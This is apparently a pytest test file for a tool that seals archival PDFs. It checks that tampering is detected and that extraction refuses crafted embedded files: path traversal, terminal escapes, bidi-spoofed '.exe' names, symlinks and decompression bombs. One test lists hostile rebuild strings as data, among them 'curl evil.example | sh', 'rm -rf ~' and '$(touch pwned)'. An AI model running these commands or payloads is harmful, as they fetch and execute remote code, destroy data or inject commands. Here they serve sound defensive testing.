"""Tampered archival copies fail `verify`, naming what changed; `extract` refuses unsafe files up front."""

from __future__ import annotations

import hashlib
import json
import os
import re
import shutil
import zlib
from collections.abc import Callable
from pathlib import Path

import pikepdf
import pypdf
import pytest
from conftest import SEED, run_cli
from pikepdf import Array, Dictionary, Name, String

from communique.model import EmbeddedSource
from communique.pdf.archival import (
    MAX_FILE_BYTES,
    MAX_TOTAL_BYTES,
    ArchiveError,
    extract_sources,
    plan_extraction,
    rebuild_command,
)
from communique.pdf.seal import EncryptedPdfError, UnreadablePdfError, open_pdf, seal_id
from communique.pdf.verify import VerifyReport, integrity_findings, verify

NAME = SEED.name
DESCRIPTION = f"communique source data; rebuild: communique build {NAME} --archival"


@pytest.fixture(scope="session")
def built(tmp_path_factory: pytest.TempPathFactory) -> bytes:
    """The seed built once as an archival copy by the command line, as a user would."""
    folder = tmp_path_factory.mktemp("sealed")
    seed = folder / NAME
    shutil.copyfile(SEED, seed)
    result = run_cli("build", str(seed), "--out", str(folder / "out"), "--archival")
    assert result.returncode == 0, result.stdout + result.stderr
    return (folder / "out" / f"{SEED.stem}.pdf").read_bytes()


@pytest.fixture
def copy(built: bytes, tmp_path: Path) -> Path:
    """A fresh copy of the archival PDF for one test to tamper with."""
    path = tmp_path / "copy.pdf"
    path.write_bytes(built)
    return path


def rules(report: VerifyReport) -> set[str]:
    """The rule ids of communique's integrity findings."""
    assert report.integrity is not None
    return {finding.rule for finding in report.integrity.findings}


def messages(report: VerifyReport) -> str:
    """communique's integrity findings as `verify` prints them."""
    assert report.integrity is not None
    return "\n".join(f"[{finding.rule}] {finding.message}" for finding in report.integrity.findings)


def edit(path: Path, change: Callable[[pikepdf.Pdf], None]) -> Path:
    """Change the PDF with pikepdf and save it in place, as another tool would."""
    with pikepdf.open(path, allow_overwriting_input=True) as pdf:
        change(pdf)
        pdf.save(path)
    return path


def in_place(path: Path, old: bytes, new: bytes) -> Path:
    """Replace the only occurrence of `old` with `new`, of the same length: offsets and /ID untouched."""
    data = path.read_bytes()
    assert len(old) == len(new) and data.count(old) == 1, (old, data.count(old))
    path.write_bytes(data.replace(old, new))
    return path


def test_the_untampered_copy_passes(copy: Path) -> None:
    report = verify(copy)
    assert report.passed, messages(report)
    assert report.integrity is not None and report.integrity.findings == ()


def test_verify_command_shows_the_integrity_checks(copy: Path) -> None:
    result = run_cli("verify", str(copy))
    assert result.returncode == 0, result.stdout + result.stderr
    assert "ok    communique integrity" in result.stdout
    machine = json.loads(run_cli("verify", str(copy), "--json").stdout)
    assert machine[0]["passed"] is True and machine[0]["integrity"]["findings"] == []


def test_a_changed_id_fails(copy: Path) -> None:
    trailer_id = re.search(rb"/ID \[ <([0-9a-f]{32})> <([0-9a-f]{32})> \]", copy.read_bytes())
    assert trailer_id
    first = trailer_id.group(1)
    report = verify(in_place(copy, first, (b"1" if first[:1] == b"0" else b"0") + first[1:]))
    assert not report.passed
    assert rules(report) == {"communique:seal-pages"}
    assert "the pages changed after the build" in messages(report) and "/ID[0]" in messages(report)


def test_a_replaced_id_fails(copy: Path) -> None:
    def replace_id(pdf: pikepdf.Pdf) -> None:
        pdf.trailer.ID = Array([String(b"\x01" * 16), String(b"\x02" * 16)])

    report = verify(edit(copy, replace_id))
    assert not report.passed
    assert rules(report) == {"communique:seal"}
    assert "no part of the seal in /ID matches the file" in messages(report)


def test_an_edited_info_title_fails(copy: Path) -> None:
    def retitle(pdf: pikepdf.Pdf) -> None:
        pdf.docinfo.Title = "A forged title"

    report = verify(edit(copy, retitle))
    assert not report.passed
    assert {"communique:seal-metadata", "communique:info-xmp"} <= rules(report)
    assert "Info /Title 'A forged title' does not match the XMP dc:title" in messages(report)


def test_one_changed_xmp_byte_fails(copy: Path) -> None:
    report = verify(in_place(copy, b"<xmp:MetadataDate>2023", b"<xmp:MetadataDate>2024"))
    assert not report.passed
    assert rules(report) == {"communique:seal-metadata"}
    assert "the metadata changed after the build" in messages(report)


def test_an_xmp_title_edited_in_sync_with_info_fails(copy: Path) -> None:
    def retitle(pdf: pikepdf.Pdf) -> None:
        with pdf.open_metadata(set_pikepdf_as_editor=False) as meta:  # updates Info to match
            meta["dc:title"] = "A forged title"

    path = edit(copy, retitle)
    with pikepdf.open(path) as pdf:
        assert str(pdf.docinfo.Title) == "A forged title"  # the two agree: only the seal can tell
    report = verify(path)
    assert not report.passed
    assert rules(report) == {"communique:seal-metadata"}


def test_the_english_title_changed_in_place_fails(copy: Path) -> None:
    report = verify(in_place(copy, b'xml:lang="en">Joint Communique', b'xml:lang="en">Joint Communiqua'))
    assert not report.passed
    assert rules(report) == {"communique:seal-metadata"}


def test_edited_embedded_yaml_fails(copy: Path) -> None:
    def rewrite_source(pdf: pikepdf.Pdf) -> None:
        stream = pdf.Root.AF[0].EF.F
        stream.write(stream.read_bytes().replace(b"Helsinki", b"Helsinkj", 1))

    report = verify(edit(copy, rewrite_source))
    assert not report.passed
    assert {"communique:seal-sources", "communique:source-checksum"} <= rules(report)
    assert f"'{NAME}' does not match its /Params /CheckSum (MD5): it was changed" in messages(report)


def rewrite_source(old: bytes, new: bytes) -> Callable[[pikepdf.Pdf], None]:
    """An edit of the embedded data file that also records the new size and checksum."""

    def rewrite(pdf: pikepdf.Pdf) -> None:
        stream = pdf.Root.AF[0].EF.F
        data = stream.read_bytes().replace(old, new, 1)
        stream.write(data)
        stream.Params.Size = len(data)
        stream.Params.CheckSum = String(hashlib.md5(data).digest())

    return rewrite


def test_edited_embedded_yaml_with_a_matching_checksum_fails(copy: Path) -> None:
    report = verify(edit(copy, rewrite_source(b"Helsinki", b"Helsinkj")))
    assert not report.passed
    assert "communique:seal-sources" in rules(report)
    assert "communique:source-checksum" not in rules(report)


def test_a_changed_glyph_fails(copy: Path) -> None:
    def change_glyph(pdf: pikepdf.Pdf) -> None:
        contents = pdf.pages[0].Contents
        data = contents.read_bytes()
        glyphs = re.search(rb"\[ ?<([0-9a-fA-F]{4})", data)
        assert glyphs
        start = glyphs.start(1)
        other = b"%04x" % ((int(glyphs.group(1), 16) + 1) % 0x10000)
        contents.write(data[:start] + other + data[start + 4 :])

    report = verify(edit(copy, change_glyph))
    assert not report.passed
    assert "communique:seal-pages" in rules(report)
    assert "the pages changed after the build" in messages(report)


def test_a_changed_document_language_fails(copy: Path) -> None:
    data = copy.read_bytes()
    at = data.index(b"/Lang (", data.index(b"/Type /Catalog"))  # the catalog's, in place
    lang = data[at + 7 : at + 9]
    copy.write_bytes(data[: at + 7] + (b"en" if lang == b"ja" else b"ja") + data[at + 9 :])
    report = verify(copy)
    assert not report.passed
    assert rules(report) == {"communique:seal-structure"}
    assert "the document structure changed after the build" in messages(report)


def test_verify_command_names_the_change(copy: Path) -> None:
    in_place(copy, b'xml:lang="en">Joint Communique', b'xml:lang="en">Joint Communiqua')
    result = run_cli("verify", str(copy))
    assert result.returncode == 1
    assert "NOT valid" in result.stdout
    assert "[communique:seal-metadata] the metadata changed after the build" in result.stdout
    machine = json.loads(run_cli("verify", str(copy), "--json").stdout)
    assert machine[0]["passed"] is False
    assert [f["rule"] for f in machine[0]["integrity"]["findings"]] == ["communique:seal-metadata"]


def test_rebuild_reproduces_the_untampered_copy(copy: Path) -> None:
    report = verify(copy, rebuild=True)
    assert report.passed, messages(report)


def test_rebuild_tells_a_source_edited_with_everything_resealed(copy: Path) -> None:
    """Even when the checksum and the seal are recomputed, rebuilding shows the pages do not follow."""

    edit(copy, rewrite_source(b"en: Helsinki\n", b"en: Helsinkx\n"))
    writer = pypdf.PdfWriter(clone_from=open_pdf(copy.read_bytes(), "copy"))
    writer._ID = seal_id(writer)
    writer.write(copy)
    assert verify(copy).passed  # the forger recomputed the seal: only a rebuild can tell
    report = verify(copy, rebuild=True)
    assert not report.passed
    assert rules(report) == {"communique:rebuild"}
    assert "gives a different PDF: its pages" in messages(report)  # they do not show the edited source


def test_an_encrypted_copy_is_a_clear_error(copy: Path) -> None:
    with pikepdf.open(copy, allow_overwriting_input=True) as pdf:
        pdf.save(copy, encryption=pikepdf.Encryption(user="secret", owner="owner"))
    with pytest.raises(EncryptedPdfError, match="is encrypted with a password") as raised:
        verify(copy)
    assert raised.value.hint and "decrypt" in raised.value.hint
    result = run_cli("verify", str(copy))
    assert result.returncode == 1
    assert "is encrypted with a password" in result.stderr and "qpdf" in result.stderr
    assert "internal error" not in result.stderr and "Traceback" not in result.stderr
    out = copy.parent / "out"
    with pytest.raises(EncryptedPdfError):
        extract_sources(copy.read_bytes(), str(copy), out)
    assert not out.exists()


def test_a_file_that_is_not_a_pdf_is_a_clear_error(tmp_path: Path) -> None:
    path = tmp_path / "notes.pdf"
    path.write_text("just some notes\n")
    with pytest.raises(UnreadablePdfError, match="is not a readable PDF"):
        verify(path)
    with pytest.raises(UnreadablePdfError, match="is not a readable PDF"):
        extract_sources(path.read_bytes(), str(path), tmp_path / "out")
    assert not (tmp_path / "out").exists()


# extract: PDFs crafted with the files an attacker would embed


class Deflated(bytes):
    """Bytes already compressed with zlib: stored as they are, with FlateDecode."""


def crafted(
    folder: Path, files: list[tuple[str, bytes]], description: str = DESCRIPTION, **params: int
) -> bytes:
    """A PDF whose /AF lists `files` (name, contents) as sources; `params` override /Params (e.g. Size)."""
    pdf = pikepdf.new()
    pdf.add_blank_page()
    specs = []
    for index, (name, data) in enumerate(files):
        stream = pikepdf.Stream(pdf, b"")
        if isinstance(data, Deflated):
            stream.write(data, filter=Name.FlateDecode)
        else:
            stream.write(data)
        stream.Type = Name.EmbeddedFile
        recorded = {"Size": len(data), "CheckSum": String(hashlib.md5(data).digest()), **params}
        stream.Params = Dictionary(**recorded)
        spec = Dictionary(
            Type=Name.Filespec,
            F=String(name),
            UF=String(name),
            EF=Dictionary(F=stream),
            AFRelationship=Name.Source,
            Desc=String(description if index == 0 else "image used by the source data"),
        )
        specs.append(pdf.make_indirect(spec))
    pdf.Root.AF = Array(specs)
    path = folder / "crafted.pdf"
    pdf.save(path)
    return path.read_bytes()


def refused(pdf: bytes, out: Path, match: str) -> ArchiveError:
    """Extracting `pdf` into `out` fails with an ArchiveError matching `match`, and writes nothing."""
    with pytest.raises(ArchiveError, match=match) as raised:
        extract_sources(pdf, "crafted.pdf", out)
    assert "nothing was written" in raised.value.message
    assert not out.exists() or not any(out.iterdir())
    return raised.value


def test_a_nul_in_a_name_is_refused(tmp_path: Path) -> None:
    pdf = crafted(tmp_path, [("doc.yaml", b"a: 1\n"), ("evil\x00.png", b"x")])
    error = refused(pdf, tmp_path / "out", "control or invisible characters")
    assert "'evil\\x00.png'" in error.message


def test_a_terminal_escape_in_a_name_is_refused_and_never_printed(tmp_path: Path) -> None:
    name = "\x1b]0;owned\x07\x1b[2Jdoc.yaml"
    pdf = crafted(tmp_path, [(name, b"a: 1\n")])
    refused(pdf, tmp_path / "out", "control or invisible characters")
    (tmp_path / "crafted.pdf").write_bytes(pdf)
    result = run_cli("extract", str(tmp_path / "crafted.pdf"), "--out", str(tmp_path / "cli"))
    assert result.returncode != 0
    assert "\x1b" not in result.stdout + result.stderr and "\x07" not in result.stdout + result.stderr
    assert "\\x1b" in result.stderr
    assert not (tmp_path / "cli").exists() or not any((tmp_path / "cli").iterdir())


def test_a_bidi_override_in_a_name_is_refused(tmp_path: Path) -> None:
    pdf = crafted(tmp_path, [("doc.yaml", b"a: 1\n"), ("sig/\u202egnp.exe", b"x")])
    refused(pdf, tmp_path / "out", "control or invisible characters")


@pytest.mark.parametrize(
    "names",
    [("doc.yaml", "a", "a/b"), ("doc.yaml", "a/b", "a"), ("doc.yaml", "sig/a.png", "sig/a.png/c.png")],
)
def test_a_file_folder_clash_is_refused_before_writing(tmp_path: Path, names: tuple[str, ...]) -> None:
    pdf = crafted(tmp_path, [(name, b"x") for name in names])
    refused(pdf, tmp_path / "out", "is both a file and the folder of")


def test_names_equal_but_for_case_are_refused(tmp_path: Path) -> None:
    pdf = crafted(tmp_path, [("doc.yaml", b"x"), ("sig/A.png", b"x"), ("sig/a.png", b"y")])
    refused(pdf, tmp_path / "out", r"'sig/a.png' appears twice \(as 'sig/A.png'\)")


def test_names_that_leave_the_folder_are_refused(tmp_path: Path) -> None:
    pdf = crafted(tmp_path, [("doc.yaml", b"x"), ("../evil.png", b"x")])
    refused(pdf, tmp_path / "out", "the name leaves the output folder")


def test_a_file_in_the_way_is_refused_before_writing(tmp_path: Path) -> None:
    out = tmp_path / "out"
    out.mkdir()
    (out / "sig").write_text("mine")
    pdf = crafted(tmp_path, [("doc.yaml", b"x"), ("sig/a.png", b"x")])
    with pytest.raises(ArchiveError, match="is in the way"):
        extract_sources(pdf, "crafted.pdf", out)
    assert sorted(path.name for path in out.iterdir()) == ["sig"] and (out / "sig").read_text() == "mine"


@pytest.mark.skipif(not hasattr(os, "symlink"), reason="no symbolic links here")
def test_a_symbolic_link_in_the_way_is_refused(tmp_path: Path) -> None:
    out, elsewhere = tmp_path / "out", tmp_path / "elsewhere"
    out.mkdir()
    elsewhere.mkdir()
    (out / "sig").symlink_to(elsewhere)
    pdf = crafted(tmp_path, [("doc.yaml", b"x"), ("sig/a.png", b"x")])
    with pytest.raises(ArchiveError, match="is in the way"):
        extract_sources(pdf, "crafted.pdf", out)
    assert not any(elsewhere.iterdir()) and not (out / "doc.yaml").exists()


def test_a_file_that_decodes_beyond_the_limit_is_refused(tmp_path: Path) -> None:
    bomb = Deflated(zlib.compress(b"\0" * (MAX_FILE_BYTES + 1), 9))
    assert len(bomb) < 100_000
    pdf = crafted(tmp_path, [("doc.yaml", b"a: 1\n"), ("sig/bomb.png", bomb)], Size=10)
    error = refused(pdf, tmp_path / "out", "'sig/bomb.png': it decodes to more than 67108864 bytes")
    assert "64 MiB a file" in error.message


def test_recorded_sizes_beyond_the_limits_are_refused_before_decoding(tmp_path: Path) -> None:
    pdf = crafted(tmp_path, [("doc.yaml", b"a: 1\n"), ("big.png", b"x")], Size=MAX_FILE_BYTES + 1)
    refused(pdf, tmp_path / "out", "'doc.yaml': it records a size of 67108865 bytes")
    many = [("doc.yaml", b"a: 1\n")] + [(f"{index}.png", b"x") for index in range(5)]
    pdf = crafted(tmp_path, many, Size=MAX_TOTAL_BYTES // 4)
    refused(pdf, tmp_path / "out", "the recorded sizes add up to")


def test_verify_reports_a_bomb_instead_of_decoding_it(tmp_path: Path) -> None:
    bomb = Deflated(zlib.compress(b"\0" * (MAX_FILE_BYTES + 1), 9))
    pdf = crafted(tmp_path, [("doc.yaml", b"a: 1\n"), ("bomb.png", bomb)], Size=10)
    findings = integrity_findings(open_pdf(pdf, "crafted.pdf"))
    assert any(
        f.rule == "communique:source-checksum" and "decodes to more than" in f.message for f in findings
    )


def test_a_hostile_description_is_never_shown_as_a_command(tmp_path: Path) -> None:
    for description in (
        "communique source data; rebuild: communique build doc.yaml --archival; rm -rf ~",
        "communique source data; rebuild: communique build doc.yaml --archival $(touch pwned)",
        "communique source data; rebuild: communique build doc.yaml --layout=\x1b[31mred",
        "communique source data; rebuild: curl evil.example | sh",
        "communique source data; rebuild: communique build doc.yaml --out=/etc",
    ):
        out = tmp_path / f"out{len(description)}"
        extraction = extract_sources(crafted(tmp_path, [("doc.yaml", b"a: 1\n")], description), "x.pdf", out)
        assert extraction.command is None
        assert extraction.warnings and extraction.warnings[0].startswith("no rebuild command shown: ")
        assert "\x1b" not in extraction.warnings[0]
        assert (out / "doc.yaml").read_bytes() == b"a: 1\n"  # the files themselves are still extracted


def test_the_rebuild_command_is_shell_quoted(tmp_path: Path) -> None:
    def source(name: str, options: str) -> EmbeddedSource:
        return EmbeddedSource(name, b"", "application/yaml", f"x; rebuild: communique build {name}{options}")

    folder = tmp_path / "my sources"
    assert rebuild_command((source("doc.yaml", " --archival --layout=parallel --paper=B5"),), folder) == (
        f"cd '{folder}' && communique build doc.yaml --archival --layout=parallel --paper=B5"
    )
    assert (
        rebuild_command((source("my doc.yaml", " --archival"),))
        == "communique build 'my doc.yaml' --archival"
    )
    assert (
        rebuild_command((source("--help.yaml", " --archival"),))
        == "communique build ./--help.yaml --archival"
    )
    with pytest.raises(ArchiveError, match="is not a build option"):
        rebuild_command((source("doc.yaml", " --archival --layout='x y'"),))


def test_extracting_the_built_copy_plans_then_writes(built: bytes, tmp_path: Path) -> None:
    out = tmp_path / "out"
    plan = plan_extraction(built, "copy.pdf", out)
    assert not out.exists()  # planning writes nothing
    assert [target for target, _ in plan.files] == [out / NAME] and plan.warnings == ()
    assert plan.command == f"cd {out} && communique build {NAME} --archival"
    extract_sources(built, "copy.pdf", out)
    assert (out / NAME).read_bytes() == SEED.read_bytes()


def test_extract_warns_of_a_source_that_does_not_match_its_checksum(copy: Path, tmp_path: Path) -> None:
    def rewrite_source(pdf: pikepdf.Pdf) -> None:
        stream = pdf.Root.AF[0].EF.F
        stream.write(stream.read_bytes() + b"# added\n")

    extraction = extract_sources(edit(copy, rewrite_source).read_bytes(), "copy.pdf", tmp_path / "out")
    assert any("/Params /Size records" in warning for warning in extraction.warnings)


def test_inspect_escapes_what_a_terminal_would_act_on(tmp_path: Path) -> None:
    path = tmp_path / "crafted.pdf"
    path.write_bytes(crafted(tmp_path, [("doc.yaml", b"a: 1\n"), ("\x1b[2J\u202egnp.exe", b"x")]))
    result = run_cli("inspect", str(path))
    assert result.returncode == 0, result.stderr
    assert "\x1b" not in result.stdout and "\u202e" not in result.stdout
    assert "\\x1b[2J\\u202egnp.exe (application/octet-stream" in result.stdout


def test_extract_refuses_sources_the_seal_does_not_record(copy: Path, tmp_path: Path) -> None:
    """The data file edited with its size and MD5 recorded to match: the seal in /ID[0] tells; extract
    refuses and writes nothing, and an unchanged copy still extracts."""
    edit(copy, rewrite_source(b"Helsinki", b"Helsinkj"))
    out = tmp_path / "out"
    done = run_cli("extract", str(copy), "--out", str(out))
    assert done.returncode == 1, done.stdout
    assert (
        "are not the ones the seal in its /ID[0] records" in done.stderr
        and "communique verify" in done.stderr
    )
    assert not out.exists() and done.stdout == ""


def test_verify_reports_every_file_even_after_an_unreadable_one(built: bytes, tmp_path: Path) -> None:
    """Found by a review: verify stopped at the first file it could not read, and --json printed nothing."""
    good, bad = tmp_path / "a.pdf", tmp_path / "notpdf.pdf"
    good.write_bytes(built)
    bad.write_text("not a pdf")
    names = [str(good), str(bad), str(good)]
    done = run_cli("verify", *names, "--json")
    assert done.returncode == 1
    reports = json.loads(done.stdout)
    assert [report["path"] for report in reports] == names
    assert [report["passed"] for report in reports] == [True, False, True]
    assert "is not a readable PDF" in reports[1]["error"] and reports[0]["error"] is None
    assert "is not a readable PDF" in done.stderr and "Traceback" not in done.stderr
    plain = run_cli("verify", *names)
    firsts = [line for line in plain.stdout.splitlines() if not line.startswith(" ")]
    assert firsts[0] == f"{good}: valid (PDF/A-3A, PDF/UA-1)" and firsts[2].startswith(f"{good}: valid")
    assert (
        firsts[1].startswith(f"{bad}: NOT valid (cannot be checked: ") and "not a readable PDF" in firsts[1]
    )
